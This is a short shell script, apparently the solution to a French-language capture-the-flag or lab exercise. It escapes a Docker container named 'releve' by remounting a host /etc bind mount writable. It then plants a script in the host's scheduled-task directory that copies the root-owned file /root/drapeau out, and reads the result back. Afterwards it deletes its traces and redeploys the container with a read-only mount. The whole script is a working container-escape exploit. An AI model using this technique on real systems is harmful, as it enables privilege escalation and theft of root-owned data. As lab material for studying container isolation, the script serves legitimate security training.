#!/bin/sh
set -eu
docker exec releve sh -c '
  mount -o remount,bind,rw /hote/etc
  echo "cp /root/drapeau /etc/planif.d/butin" >/hote/etc/planif.d/intrus.sh
  sleep 3
  cat /hote/etc/planif.d/butin' >/tmp/drapeau
echo "Réponse drapeau : $(cat /tmp/drapeau)"
rm /etc/planif.d/intrus.sh /etc/planif.d/butin
docker rm -f releve
docker run -d --name releve -v /etc/boutique:/hote/etc/boutique:ro -p 127.0.0.1:8080:8080 labo/releve:1
